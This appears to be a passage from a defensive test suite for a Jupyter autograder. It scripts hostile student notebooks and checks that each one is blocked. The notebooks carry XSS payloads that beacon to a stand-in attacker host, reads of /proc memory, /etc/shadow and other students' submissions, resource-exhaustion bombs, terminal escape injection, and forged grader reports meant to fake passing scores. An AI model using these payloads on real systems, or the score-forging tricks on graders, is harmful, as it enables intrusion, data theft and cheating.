    for _zz_attr in list(vars(_zz_module)):
        if _zz_attr.startswith("check_"):
            setattr(_zz_module, _zz_attr, _zz_value)
for _zz_attr in list(globals()):
    if _zz_attr.startswith("check_"):
        globals()[_zz_attr] = _zz_value
'''
BEACON = "//zz-attacker.invalid/"  # where a live script or markup would send its request

NAN = "_zz_nan = float('nan')\n"
NAN_PREDICTIONS = (NAN + "grad_before = v_grad_before = None\n"
                   "grad_after_one = grad_after_two = grad_after_clear = _zz_nan\n"
                   "v_grad_after_one = v_grad_after_two = v_grad_after_clear = _zz_nan\n")

PARTIAL_CREDIT = [
    Attack("nan_predictions", "class", {"accumulation_predictions": NAN_PREDICTIONS}, PREDICT,
           "every numeric prediction is NaN, which compares false with everything (so 'differs by more "
           "than 1e-6' was false for every key): the judge asks for finite numbers, 0 points"),
    Attack("partial_credit_true", "class", {"train_loop": WRONG_LOOP + "_zz_SHOWN = True\n" + REBIND},
           AFTER_LOOP, "every check_* name in the notebook and the grader's modules returns True, so each "
           "later test cell shows `True` as its result (nbgrader reads a result it cannot read as a "
           "number as full credit): the judge has no record of those cells: 0 on both"),
    Attack("partial_credit_number", "class", {"fit_line": WRONG_FIT + "_zz_SHOWN = 2.0\n" + REBIND},
           FIT, "the checks return 2.0, the cell's full points, as a partial-credit result: 0"),
    Attack("partial_credit_huge", "class", {"fit_line": WRONG_FIT + "_zz_SHOWN = 1e9\n" + REBIND},
           FIT, "the checks return 1e9 as a partial-credit result: 0"),
    Attack("partial_credit_appended", "class",
           {"train_loop": WRONG_LOOP + '''
def _zz_append_score(lines):
    source = "".join(lines)
    if "check_train" + "_loop(" in source:
        body = "".join("    " + line for line in source.splitlines(True))
        return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n", "4\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_zz_append_score)
'''},
           LOOP, "an input transformer wraps the train_loop test cell in try/except and appends `4`, its "
           "points, as the last expression: the checks ran and failed in the judge: 0"),
]

SCRIPT_OUTPUTS = (
    "from IPython.display import display, HTML, Javascript, SVG, Latex, Markdown, IFrame\n"
    "display(HTML(\"<script>fetch('" + BEACON + "s')</script><img src=x onerror=\\\"fetch('" + BEACON + "i')\\\">\"))\n"
    "display(Javascript(\"fetch('" + BEACON + "js')\"))\n"
    "display(SVG(\"<svg xmlns='http://www.w3.org/2000/svg' onload=\\\"fetch('" + BEACON + "svg')\\\"/>\"))\n"
    "display(Latex(\"$\\\\href{javascript:fetch('" + BEACON + "tex')}{x}$\"))\n"
    "display(Markdown(\"[x](javascript:fetch('" + BEACON + "md')) ![t](http:" + BEACON + "t.png)\"))\n"
    "display(IFrame('http:" + BEACON + "frame', 10, 10))\n"
    "display({'image/png': 'x\" onerror=\"fetch(`" + BEACON + "png`)', 'text/plain': 'img'}, raw=True)\n"
    "display({'image/png': 'iVBORw0KGgo=', 'text/plain': 'sized'}, raw=True,\n"
    "        metadata={'image/png': {'width': \"1 onerror=fetch('" + BEACON + "w')\"}})\n"
    "display({'text/html': '<base href=\"http:" + BEACON + "\"><meta http-equiv=\"refresh\" content=\"0;url=http:"
    + BEACON + "m\"><div style=\"background:url(http:" + BEACON + "c)\">css</div>', 'text/plain': 'h'}, raw=True)\n"
    "import ipywidgets as _zz_widgets\n"
    "display(_zz_widgets.HTML(\"<img src=x onerror=\\\"fetch('" + BEACON + "widget')\\\">\"))\n"
)


def _edit_markdown(nb):
    """The title (a locked markdown cell) rewritten, and markdown and raw cells of its own, each
    carrying markup that would run script or make a request if rendered; forged widget state."""
    import nbformat

    vectors = ["<script>fetch('" + BEACON + "md-script')</script>",
               "<img src=x onerror=\"fetch('" + BEACON + "md-img')\">",
               "[click](javascript:fetch('" + BEACON + "md-link'))",
               "![tracker](http:" + BEACON + "md-track.png)",
               "$\\href{javascript:fetch('" + BEACON + "md-tex')}{x}$",
               "<iframe src='http:" + BEACON + "md-frame'></iframe>"]
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "title":
            cell.source = "# Lesson 3\n" + "\n\n".join(vectors)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("\n\n".join(vectors)))
    raw = nbformat.v4.new_raw_cell("<script>fetch('" + BEACON + "raw')</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    nb.cells.insert(2, raw)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0,
                              "state": {"zz": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                                               "model_module_version": "2.0.0",
                                               "state": {"value": "<img src=x onerror=\"fetch('" + BEACON
                                                         + "state')\">"}}}}}
    return nb


def _huge_sources(nb):
    """Cells whose source costs far more to render than to submit: 4 MB of one-character tokens
    in a code cell of its own (pygments makes a <span> of each, nbconvert parses them all again:
    96 MB of page and a 7 GB grading process), and 1 MB of markdown headings."""
    import nbformat

    nb.cells.append(nbformat.v4.new_code_cell("zz = (" + "a," * 2_000_000 + ")\n"))
    nb.cells.append(nbformat.v4.new_markdown_cell("#\n" * 500_000))
    return nb


# TeX that MathJax would typeset on a page (issue 34): a link, a box over the page, a class of
# MathJax's own, a font, an extension, in every delimiter MathJax knows
TEX = [
    r"$\href{http://zz-attacker.invalid/tex-link}{Your grade was changed: click here}$",
    r"$$\style{position:fixed;top:0;left:0;width:100%;height:100%;background:red}{\text{zz-style}}$$",
    r"\(\class{MathJax_Menu}{\text{zz-class}}\)",
    r"\[\unicode[zz-font]{x263A}\]",
    r"\begin{equation}\require{action}\toggle{\text{zz-toggle}}{x}\endtoggle\end{equation}",
    r"\begin{align*}\href{javascript:fetch('//zz-attacker.invalid/tex-js')}{zz-align}\end{align*}",
    r"\$ escaped, then $\mathrm{zz\text{-}inline}$",
]
TEX_OUTPUTS = (  # each in every kind of output: HTML (and inside allowed tags), LaTeX, Markdown, both streams, an error
    "import sys as _zz_s\nfrom IPython.display import display as _zz_d\n"
    f"_zz_tex = {TEX!r}\n"
    "for _zz_t in _zz_tex:\n"
    "    _zz_d({'text/html': '<p>' + _zz_t + '</p><ul><li><b>' + _zz_t + '</b></li></ul>', 'text/plain': _zz_t}, raw=True)\n"
    "    _zz_d({'text/latex': _zz_t, 'text/markdown': _zz_t, 'text/plain': _zz_t}, raw=True)\n"
    "    print(_zz_t)\n"
    "    print(_zz_t, file=_zz_s.stderr)\n"
    "_zz_d({'text/html': ''.join(_zz_tex)}, raw=True)\n"
    "try:\n"
    "    raise type(_zz_tex[0], (Exception,), {})(' '.join(_zz_tex))\n"
    "except Exception:\n"
    "    get_ipython().showtraceback()\n"
)
# HTML whose cleaning costs far more than its size (html5lib looks through every open element at each
# tag): 98 000 characters of unclosed <b> cost 93 s of the grading worker's CPU
COSTLY_HTML = (
    "from IPython.display import display as _zz_d\n"
    "for _zz_h in ('<b>' * 32_666, ''.join('<b id=%d>' % _zz_i for _zz_i in range(9_000))[:90_000],\n"
    "              '<div>' * 20_000, ''.join('<b id=%d><p>' % _zz_i for _zz_i in range(60)) + 'x</p>' * 60):\n"
    "    for _zz_i in range(3):\n"
    "        _zz_d({'text/html': _zz_h, 'text/plain': 'zz-html'}, raw=True)\n"
)


def _forge_questions(nb):
    """A cell of its own, first: every question cell then displays a classmate's variant (the one
    of seed 1) with TeX in it instead of the student's own, and every later cell ends with a line
    of its own (the locked setup cell included)."""
    import nbformat

    from autograder.judges import variants
    from autograder.wire.questions import question_data

    forged = {q: question_data(q, variants.variant(q, 1).shown()) for q in variants.FAMILIES if q.startswith("l3_")}
    for data in forged.values():  # (the cell stays under LimitSourceSize's 20 000 characters)
        del data["text/markdown"]
        data["text/html"] += "<p>" + TEX[0] + "</p>"
    code = ("import lessons.quiz as _zz_quiz\nfrom IPython.display import display as _zz_d\n"
            f"_zz_FORGED = {forged!r}\n"
            "def _zz_question(qid):\n"
            "    _zz_d(_zz_FORGED.get(qid, {'text/plain': 'zz-forged question'}), raw=True)\n"
            "_zz_quiz.question = _zz_question\n"
            "get_ipython().events.register('post_run_cell', lambda *a: print('zz-forged: your grade was changed'))\n")
    nb.cells.insert(0, nbformat.v4.new_code_cell(code))
    return nb


LIVE_MARKUP = [
    Attack("displays_script", "class", {"fit_line": HONEST + SCRIPT_OUTPUTS},
           NOTHING, "HTML with script and event handlers, JavaScript, SVG, LaTeX and Markdown with "
           "javascript: links, an iframe, forged image data and size, <base>/<meta>/CSS url(), a widget: none "
           "of it is live in the feedback page or the autograded notebook formgrader renders"),
    Attack("writes_markup_in_markdown", "class", {}, NOTHING,
           "script, event handlers, javascript: links, remote images, MathJax \\href and an iframe in a "
           "locked markdown cell it rewrote, in markdown and raw cells of its own, and in forged widget "
           "state: the locked cell comes back as the instructor wrote it, the student's own cells show "
           "as text, the widget state is dropped", edit=_edit_markdown),
    Attack("huge_sources", "class", {}, NOTHING,
           "a 4 MB cell of tokens and 1 MB of markdown of its own: each cell keeps 20 000 characters of "
           "source (a comment says how much was cut), so the pages stay small and grading the notebook "
           "takes what an honest one takes", edit=_huge_sources),
    Attack("typesets_tex_in_outputs", "class", {"fit_line": HONEST + TEX_OUTPUTS}, NOTHING,
           "TeX (\\href, \\style, \\class, \\unicode, \\require, in $, $$, \\(, \\[ and equation "
           "environments) in HTML, LaTeX, Markdown, stream and error outputs: MathJax typesets none of it on "
           "the feedback page or on formgrader's (tests/pages.typeset)"),
    Attack("forges_question_cells", "class", {}, NOTHING,
           "its own first cell makes every question cell display a classmate's variant and every cell a "
           "line of its own: the locked cells show what the grader draws (the student's own variant) and "
           "nothing of the kernel's", edit=_forge_questions),
    Attack("costly_html", "class", {"fit_line": HONEST + COSTLY_HTML}, NOTHING,
           "HTML outputs whose cleaning costs far more than their size (unclosed <b>, no two alike, deep "
           "<div>s, paragraphs that reopen every <b>): past the cleaning's budget they show as text, and "
           "grading the notebook takes what an honest one takes"),
]


def _language_is_a_path(folder, paths) -> None:
    """The notebook's language names a message file the student submitted, whose Quick Check
    messages are 3 MB wide each."""
    import json

    (folder / "zz.toml").write_text('[quiz]\nwrong = "{question:>3000000}"\nwrong_revisit = "{question:>3000000}"\n'
                                    '[judge]\nmalformed = "{x:>3000000}"\n')
    path = folder / "03_zeroing_grad.ipynb"
    nb = json.loads(path.read_text())
    nb["metadata"]["autograd_lessons"] = {"language": str(folder / "zz")}
    path.write_text(json.dumps(nb))


def _language_is_not_a_string(nb):
    nb.metadata["autograd_lessons"] = {"language": {"$ne": "{0:>99999999}"}}
    for cell in nb.cells:
        cell.metadata["autograder"] = {"verdict": {"ok": False, "mistake": "<script>zz</script>", "key": "x"}}
        cell.metadata["tags"] = ["<img src=x onerror=\"fetch('" + BEACON + "tag')\">"]
    return nb


METADATA = [
    Attack("language_is_a_path", "class", {"quick_check_answers": WRONG_QUIZ}, QUIZ,
           "the notebook's language is the path of a .toml it submitted, with 3 MB format widths: the "
           "language is one of the course's codes or English, so the grader's own messages are used and "
           "what comes back stays small; its wrong answers cost their points",
           files=_language_is_a_path),
    Attack("language_is_not_a_string", "class", {}, NOTHING,
           "a language that is a dict holding a format, forged verdicts and HTML tags in cell metadata: "
           "English, and the forged metadata is gone", edit=_language_is_not_a_string),
]

ENVIRONMENT = [
    Attack("reads_its_environment_block", "class",
           {"fit_line": HONEST + '''
for _zz_what in ("environ", "cmdline", "auxv"):
    try:
        with open("/proc/self/" + _zz_what, "rb") as _zz_f:
            print(_zz_what, _zz_f.read().replace(b"\\x00", b"\\n").decode(errors="replace")[:20000])
    except Exception as _zz_e:
        print(_zz_what, type(_zz_e).__name__)
'''},
           NOTHING, "/proc/self/environ, cmdline and auxv (the exec-time block, inherited from the fork "
           "server) hold nothing of the instructor's environment"),
    Attack("scans_its_memory", "class",
           {"fit_line": HONEST + '''
import re as _zz_re
_zz_seen, _zz_others = set(), set()
try:
    with open("/proc/self/maps") as _zz_maps, open("/proc/self/mem", "rb", 0) as _zz_mem:
        for _zz_line in _zz_maps:
            _zz_parts = _zz_line.split()
            if not _zz_parts[1].startswith("rw") or (len(_zz_parts) > 5 and _zz_parts[5].startswith("[v")):
                continue
            _zz_start, _zz_end = (int(x, 16) for x in _zz_parts[0].split("-"))
            for _zz_at in range(_zz_start, _zz_end, 2**24):
                try:
                    _zz_mem.seek(_zz_at)
                    _zz_block = _zz_mem.read(min(2**24 + 200, _zz_end - _zz_at))
                except Exception:
                    continue
                for _zz_hit in _zz_re.finditer(rb"canary-[a-z-]+-[0-9a-f]{16}", _zz_block):
                    _zz_seen.add(_zz_hit.group().decode())
                for _zz_hit in _zz_re.finditer(rb"/submitted/([A-Za-z0-9_.-]+)/03_zeroing_grad", _zz_block):
                    _zz_others.add(_zz_hit.group(1).decode())
except Exception as _zz_e:
    print("memory", type(_zz_e).__name__)
print(sorted(_zz_seen))
_zz_others.discard("@STUDENT@")
if _zz_others:
    _zz_reached("other students' folder names in its memory: %s" % sorted(_zz_others))
'''},
           NOTHING, "the kernel's own memory (inherited from the fork server) holds no secret of the "
           "instructor's, no hidden test and no other student's folder name"),
    Attack("reads_the_exchange", "class",
           {"fit_line": HONEST + '''
for _zz_top in ("/usr/local/share/nbgrader/exchange", "/srv/nbgrader/exchange"):
    try:
        for _zz_dirpath, _zz_dirs, _zz_names in _zz_os.walk(_zz_top):
            for _zz_n in _zz_names:
                try:
                    print(open(_zz_os.path.join(_zz_dirpath, _zz_n), errors="replace").read()[:2000])
                    _zz_reached("read the exchange: " + _zz_os.path.join(_zz_dirpath, _zz_n))
                except Exception:
                    pass
    except Exception:
        pass
'''},
           NOTHING, "nbgrader's exchange (every student's submissions and feedback) cannot be read"),
    Attack("lists_the_system", "class",
           {"fit_line": HONEST + '''
for _zz_top in ("/usr", "/usr/local", "/usr/share", "/etc", "/home", "/root", "/var", "/opt", "/srv", "/"):
    try:
        print(_zz_top, sorted(_zz_os.listdir(_zz_top))[:50])
        _zz_reached("listed " + _zz_top)
    except Exception:
        pass
for _zz_file in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/ssh/ssh_config"):
    try:
        print(open(_zz_file).read()[:500])
        _zz_reached("read " + _zz_file)
    except Exception:
        pass
'''},
           NOTHING, "no system folder can be listed and no system configuration read (the kernel reads its "
           "Python and its libraries, nothing else)"),
]

LIMITS = [
    Attack("memfd_pins_memory", "class",
           {"fit_line": HONEST + '''
_zz_pinned = 0
try:
    _zz_fd = _zz_os.memfd_create("zz")
    for _ in range(24):
        _zz_os.posix_fallocate(_zz_fd, _zz_pinned, 100 * 2**20)
        _zz_pinned += 100 * 2**20
except Exception as _zz_e:
    print("memfd:", type(_zz_e).__name__)
if _zz_pinned >= 2 * 2**30:
    _zz_reached("%.1f GB pinned in a memfd" % (_zz_pinned / 2**30))
'''},
           NOTHING, "memfd_create + posix_fallocate cannot pin 2.4 GB past the memory limit (memory no "
           "process's size shows)"),
    Attack("memfd_through_ctypes", "class",
           {"fit_line": HONEST + '''
_zz_fd = _zz_libc().syscall(319 if _zz_os.uname().machine == "x86_64" else 279, b"zz", 0)
if _zz_fd >= 0:
    _zz_reached("memfd_create through ctypes")
_zz_shm = _zz_libc().shmget(0, 2**30, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
if _zz_shm >= 0:
    _zz_reached("a System V shared memory segment")
'''},
           NOTHING, "memfd_create through ctypes.syscall, and System V shared memory, are refused too"),
    Attack("thread_bomb", "class",
           {"fit_line": HONEST + '''
import threading as _zz_t
_zz_t.stack_size(64 * 1024)  # small stacks: the address-space limit alone does not stop them
_zz_stop, _zz_made = _zz_t.Event(), []
try:
    for _ in range(3000):
        _zz_thread = _zz_t.Thread(target=_zz_stop.wait, daemon=True)
        _zz_thread.start()
        _zz_made.append(_zz_thread)
except Exception as _zz_e:
    print("threads:", len(_zz_made), type(_zz_e).__name__)
if len(_zz_made) >= 1000:
    _zz_reached("%d threads" % len(_zz_made))
_zz_stop.set()
for _zz_thread in _zz_made:
    _zz_thread.join()
_zz_t.stack_size(0)
'''},
           NOTHING, "a kernel cannot start thousands of threads (a per-kernel limit of processes and "
           "threads); its later cells still run"),
    Attack("many_outputs_under_the_cap", "class",
           {"fit_line": HONEST + '''
import sys as _zz_s
for _zz_i in range(300):
    print("x" * 99_999)
    _zz_s.stdout.flush()
    display({"text/plain": "y" * 99_999}, raw=True)
'''},
           NOTHING, "600 outputs just under the per-output cap: the notebook's output budget keeps what "
           "comes back small"),
    Attack("many_tiny_outputs", "class",
           {cell: HONEST + TINY_OUTPUTS for cell in ("train_loop", "train_accumulate", "fit_line", "dead_parameters")},
           NOTHING, "2 400 outputs of one character, 600 flushed prints in each of four answer cells (about "
           "2 s a cell: 3 000 in one cell once ran past the 10 s cell timeout, and 4 000 messages sent "
           "straight to the output socket overflow ZeroMQ's queue, so the cell's end can be lost): the "
           "budget counts each output, so the notebook keeps at most 2 000 of them"),
    Attack("control_thread_capabilities", "class",
           {"fit_line": HONEST + '''
import socket as _zz_socket
_zz_done = _zz_threading.Event()
def _zz_on_control():
    try:
        with open("/proc/thread-self/status") as _zz_f:
            _zz_caps = [l.split()[1] for l in _zz_f if l.startswith(("CapEff", "CapPrm", "CapBnd"))]
        if any(int(c, 16) for c in _zz_caps):
            _zz_reached("capabilities on the control thread: %s" % _zz_caps)
        for _zz_family, _zz_kind in ((_zz_socket.AF_PACKET, _zz_socket.SOCK_RAW), (40, _zz_socket.SOCK_STREAM)):
            try:
                _zz_socket.socket(_zz_family, _zz_kind).close()
                _zz_reached("a socket of family %d on the control thread" % _zz_family)
            except Exception:
                pass
    finally:
        _zz_done.set()
try:
    get_ipython().kernel.control_thread.io_loop.add_callback(_zz_on_control)
    _zz_done.wait(10)
except Exception as _zz_e:
    print("control thread:", type(_zz_e).__name__)
'''},
           NOTHING, "code run on ipykernel's control thread (started before the student's code) has no "
           "capability and cannot open a raw packet or vsock socket"),
    Attack("odd_socket_families", "class",
           {"fit_line": HONEST + '''
import socket as _zz_socket
for _zz_family, _zz_kind in ((40, _zz_socket.SOCK_STREAM), (_zz_socket.AF_NETLINK, _zz_socket.SOCK_RAW),
                             (_zz_socket.AF_PACKET, _zz_socket.SOCK_RAW), (38, _zz_socket.SOCK_SEQPACKET),
                             (_zz_socket.AF_INET, _zz_socket.SOCK_DGRAM), (_zz_socket.AF_INET6, _zz_socket.SOCK_DGRAM)):
    try:
        _zz_socket.socket(_zz_family, _zz_kind).close()
        _zz_reached("a socket of family %d" % _zz_family)
    except Exception:
        pass
'''},
           NOTHING, "no socket of any family can be made (vsock, netlink, packet, crypto, UDP)"),
]

SECRETS = [
    Attack("records_every_cell_it_sees", "class",
           {"quick_check_answers": WRONG_QUIZ + '''
_zz_sources = []
def _zz_record_lines(lines):
    _zz_sources.append("".join(lines))
    return lines
def _zz_record_info(info):
    _zz_sources.append(getattr(info, "raw_cell", ""))
def _zz_trace(frame, event, arg):
    if frame.f_code.co_filename.startswith("<ipython-input") or "ipykernel_" in frame.f_code.co_filename:
        import linecache
        _zz_sources.append("".join(linecache.getlines(frame.f_code.co_filename)))
get_ipython().input_transformers_cleanup.append(_zz_record_lines)
get_ipython().events.register("pre_run_cell", _zz_record_info)
_zz_sys.setprofile(_zz_trace)
''', "train_loop": HONEST + '''
_zz_sys.setprofile(None)
print("\\n----\\n".join(sorted(set(_zz_sources + list(In)))))
'''},
           QUIZ, "a transformer, a pre_run_cell hook and a profile function record every cell the kernel "
           "runs, and a later cell prints them into its feedback: the hidden tests arrive without their "
           "keys (and comments), so there is nothing to share; its wrong answers cost their points"),
    Attack("floods_the_judge", "class",
           {"fit_line": HONEST + '''
import select as _zz_select, time as _zz_time
_zz_taken = [0]
def _zz_flood():
    line = b'{"op": "report", "token": "' + b"x" * (60 * 2**20) + b'"}\\n'
    try:
        for fd in _zz_judge_fds():
            for _ in range(2):
                data = line
                while data:
                    if not _zz_select.select([], [fd], [], 20)[1]:
                        return
                    sent = _zz_os.write(fd, data[:2**20])
                    _zz_taken[0] += sent
                    data = data[sent:]
    except BaseException:  # (the judge closed the connection: the attack is over)
        pass
_zz_thread = _zz_threading.Thread(target=_zz_flood, daemon=True)
_zz_thread.start()
_zz_thread.join(8)
if _zz_taken[0] >= 32 * 2**20:
    _zz_reached("the judge took %d MB from one kernel" % (_zz_taken[0] // 2**20))
'''},
           FIT, "two 60 MB lines on its judge connection: the judge stops reading this kernel past its "
           "budget (16 MB) and closes its connection, so its own later check has no record (0); nobody "
           "else waits"),
]

FORGED_REPORTS = [
    Attack("forges_error_reports", "class",
           {"train_loop": WRONG_LOOP + '''
from autograder.kernel import connection as _zz_connection
_zz_report = _zz_connection.RemoteJudge.report
_zz_connection.RemoteJudge.report = lambda self, token, observation: _zz_report(self, token, {"error": {"ok": True}})
''', "fit_line": WRONG_FIT}, LOOP | FIT,
           "every observation the kernel sends the judge becomes {\"error\": {\"ok\": true}}: a reported error "
           "is a failure whatever it claims, so the wrong train loop and fit_line score 0 (the judges "
           "once took the claim as a pass)"),
]

THIRD_ROUND = FORGED_REPORTS + PARTIAL_CREDIT + LIVE_MARKUP + METADATA + ENVIRONMENT + LIMITS + SECRETS


def _deep_folders(folder, paths) -> None:
    """1 100 nested folders, a notebook's name and a link to the passwords at the bottom; 24
    nested folders of 250-character names (6 000 characters of path, past Linux's 4 096)."""
    import os

    from deep_folders import chain
    for names in (["d"] * 1100, [f"zz{i:02d}" + "x" * 246 for i in range(24)]):
        fd = chain(folder, names)
        os.close(os.open("03_zeroing_grad.ipynb", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
        os.symlink("/etc/passwd", "zz-passwd.txt", dir_fd=fd)
        os.close(fd)


def _many_entries(folder, paths) -> None:
    """2 100 empty files beside the notebook, and a folder of 3 000 empty folders."""
    for i in range(2100):
        (folder / f"0zz{i:04d}.txt").touch()
    (folder / "zz-many").mkdir()
    for i in range(3000):
        (folder / "zz-many" / f"{i:04d}").mkdir()


def _special_entries(folder, paths) -> None:
    """A device file (the numbers of /dev/zero, endless to read) named like data, a socket, a
    FIFO in a folder, and folders whose names hold a newline and a terminal escape, or are not
    UTF-8, each with a file."""
    import os
    import socket
    import stat
    os.mknod(folder / "zz-data.csv", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    here = os.getcwd()
    os.chdir(folder)  # (a socket's address holds 108 bytes: the test's folder is longer)
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.bind("zz.sock")
    finally:
        os.chdir(here)
    (folder / "zz-sub").mkdir()
    os.mkfifo(folder / "zz-sub" / "03_zeroing_grad.ipynb")
    for name in ("zz\nline\x1b]0;owned\x07", "zz-\x1b[2J"):
        (folder / name).mkdir()
        (folder / name / "notes.txt").write_text("zz")
    odd = os.path.join(os.fsencode(folder), b"zz-\xff\xfe")
    os.mkdir(odd)
    with open(os.path.join(odd, b"notes.txt"), "wb") as f:
        f.write(b"zz")


# A submitted folder is walked by the grader (its size, what to set aside, its digest), by nbgrader
# (which copies it) and by the sandbox (which copies it for the kernel): none of it may stop the run
FOLDERS = [
    Attack("deep_folder_chain", "class", {}, NOTHING,
           "1 100 nested folders, and a path past 4 096 characters, are set aside (the part past 16 levels "
           "or 1 024 characters) and the notebook graded: before, Path.rglob in the size check run before "
           "anyone is graded raised RecursionError and the whole class went ungraded", files=_deep_folders),
    Attack("many_entries_in_submission", "class", {}, NOTHING,
           "2 100 files beside the notebook and 3 000 folders in one folder: what is past the walk's 2 000 "
           "entries, or the budget of 500, is set aside and the notebook graded", files=_many_entries),
    Attack("special_entries_in_submission", "class", {}, NOTHING,
           "a device file that reads forever, a socket, a FIFO named like the notebook in a folder, and "
           "folder names with newlines, terminal escapes or bytes that are not UTF-8 are set aside or graded "
           "past: the notebook is graded as usual", files=_special_entries),
    Attack("kernel_makes_deep_folders", "class",
           {"fit_line": HONEST + '''
for _zz_top in (_zz_os.getcwd(), _zz_os.environ.get("TMPDIR") or "/tmp", "/tmp"):
    try:
        _zz_fd = _zz_os.open(_zz_top, _zz_os.O_RDONLY | _zz_os.O_DIRECTORY)
        for _ in range(1500):
            _zz_os.mkdir("zz-d", dir_fd=_zz_fd)
            _zz_inner = _zz_os.open("zz-d", _zz_os.O_RDONLY | _zz_os.O_DIRECTORY, dir_fd=_zz_fd)
            _zz_os.close(_zz_fd)
            _zz_fd = _zz_inner
        _zz_os.close(_zz_fd)
    except Exception:
        pass
'''}, NOTHING, "1 500 nested folders made by the kernel in its own folder and its temporary folders are "
           "removed with it (a recursive removal would raise RecursionError in the grader): nothing is lost"),
]


# -- what the instructor reads (issue 34): a kernel's reports whose fields no message can take, and
# names of the student's choosing full of escape sequences and markup, for the class report, the
# instructor's terminal and the pages. ----------------------------------------------------------
UNRENDERABLE = '''
from autograder.kernel import connection as _zz_connection
def _zz_nested(levels):
    value = "x"
    for _ in range(levels):
        value = {"$key": "loop.list_holding", "fields": {"type": value}}
    return value
_zz_STEP = {"where": "w", "used": "u", "expected": "e", "backward_where": "b"}
_zz_FORGED = [  # one class of what no template can take (or no kernel may say) per report, in turn
    {"ok": False, "mistake": "step_count", "key": "loop.step_count", "fields": {
        "got": 10**400, "count": 10**400, "batches": 4, "expected": 4, "where": "w", "rule": {"$key": "loop.rule_batch"}}},
    {"ok": False, "mistake": "losses_values", "key": "loop.losses_values", "fields": {"batch": 1, "got": 10**400, "expected": 1.0}},
    {"ok": False, "mistake": "cleared_once", "key": "loop.cleared_once", "fields": dict(_zz_STEP, step=float("nan"))},
    {"ok": False, "mistake": "crashed", "key": "loop.crashed", "fields": {"error": "E", "where": _zz_nested(150), "text": "t"}},
    {"ok": False, "mistake": "crashed", "key": "loop.crashed", "fields": {"error": "E", "where": "w", "text": "x" * 900_000}},
    {"ok": False, "mistake": "crashed", "key": "quiz.right", "fields": {"question": 1, "title": "<b>zz</b>"}},
    {"ok": False, "mistake": "crashed", "key": "cli.bad_secret", "fields": {"reason": "zz"}},
    {"ok": False, "mistake": "<script>zz</script>", "key": "loop.crashed", "fields": {
        "error": "E", "where": "w", "text": "{0:>999999999}{text:>99999999}", "count": 10**400, "zz": 1}},
    {"ok": False, "mistake": "cleared_once", "key": "loop.cleared_once", "fields": dict(_zz_STEP, step=True)},
]
_zz_sent = [0]
_zz_report = _zz_connection.RemoteJudge.report
def _zz_forge(self, token, observation):
    forged = _zz_FORGED[_zz_sent[0] % len(_zz_FORGED)]
    _zz_sent[0] += 1
    if isinstance(observation, dict) and "diagnosis" in observation:  # a training loop's: only its diagnosis
        return _zz_report(self, token, dict(observation, diagnosis=forged))
    return _zz_report(self, token, {"error": forged})
_zz_connection.RemoteJudge.report = _zz_forge
'''
ESCAPES = "\\x1b[2J\\x1b[H\\x1b]0;zz-pwned\\x07\\x1b]52;c;enotcHduZWQ=\\x07\\x9b31m\\u202e\\r\\x08"  # (as Python source)
ESCAPED_NAMES = f'''
_zz_NAME = "{ESCAPES}<img src=x onerror=fetch('{BEACON}ename')>Zz"
_zz_check = check_fit_line
def check_fit_line(*args, **kwargs):
    _zz_check(*args, **kwargs)
    if kwargs.get("cases") == "hidden":  # (both checks passed in the judge: the cell's error is its own)
        raise type(_zz_NAME, (Exception,), {{}})("{ESCAPES}" + "zz " * 2000)
'''
RAISES_ESCAPED = f'''
def fit_line(w, b, xs, ys, lr, steps):
    raise type("{ESCAPES}Zz" + "z" * 5000, (Exception,), {{}})("{ESCAPES}<script>fetch('{BEACON}raise')</script>")
'''

READ_BY_THE_INSTRUCTOR = [
    Attack("reports_what_no_message_takes", "class", {"train_loop": HONEST + UNRENDERABLE, "fit_line": WRONG_FIT},
           FIT, "every report it sends the judge is a failure no template can take or no kernel may give: 10**400 in "
           "a plural's count and in a :.6g, NaN and True for a step, messages nested 150 deep, 900 kB of text, "
           "another section's message, format specs and a field no message has: each fit_line report is refused "
           "(0), each train_loop diagnosis is dropped (its right loop still passes), and the class report is written"),
    Attack("names_its_error_with_escapes", "class", {"fit_line": HONEST + ESCAPED_NAMES}, FIT,
           "its fit_line test cell ends in an error (0) whose class name and text hold escape sequences (clear the "
           "screen, set the window's title, write the clipboard, CSI, a right-to-left override, a carriage return, "
           "a backspace) and markup: the class summary names it, and the instructor's terminal gets text only"),
    Attack("raises_an_escaped_exception", "class", {"fit_line": RAISES_ESCAPED}, FIT,
           "its fit_line raises an exception whose 5 000-character class name and text hold escape sequences and "
           "markup: the kernel's report keeps 100 characters of the name, the judge takes it, it costs fit_line "
           "only, and nothing of it is live on a page or reaches the terminal"),
]



# -- what a kernel sends the grader and the judge, and what it takes of the machine (issue 34) ---------
# A kernel's code holds its session key and sockets: it can send the grader any frames, signed.
SENDS_RAW = """
import json as _zz_j
_zz_k = get_ipython().kernel
def _zz_frames(kind, content, parent=None, header=None, metadata=b"{}", extra=()):
    s = _zz_k.session
    parts = [header if header is not None else s.pack(s.msg_header(kind)),
             parent if parent is not None else s.pack(dict(_zz_k.get_parent().get("header", {}))),
             metadata, content if isinstance(content, bytes) else _zz_j.dumps(content).encode()]
    return [b"<IDS|MSG>", s.sign(parts)] + parts + list(extra)
def _zz_iopub(kind, content, **kw):
    _zz_k.iopub_socket.send_multipart([b"zz"] + _zz_frames(kind, content, **kw))
def _zz_shell(kind, content, **kw):
    ident = _zz_k._parent_ident["shell"]
    _zz_k.shell_stream.socket.send_multipart((list(ident) if isinstance(ident, list) else [ident])
                                             + _zz_frames(kind, content, **kw))
"""
MALFORMED_IOPUB = SENDS_RAW + """
_zz_D = {"data": {"text/plain": "a"}, "metadata": {}}
for _zz_kind, _zz_content, _zz_kw in [
        ("stream", [1, 2], {}), ("display_data", "zz", {}), ("execute_result", 5, {}), ("stream", None, {}),
        ("stream", {"text": "x"}, {}), ("stream", {"name": 7, "text": "x"}, {}), ("stream", {"name": "stdout"}, {}),
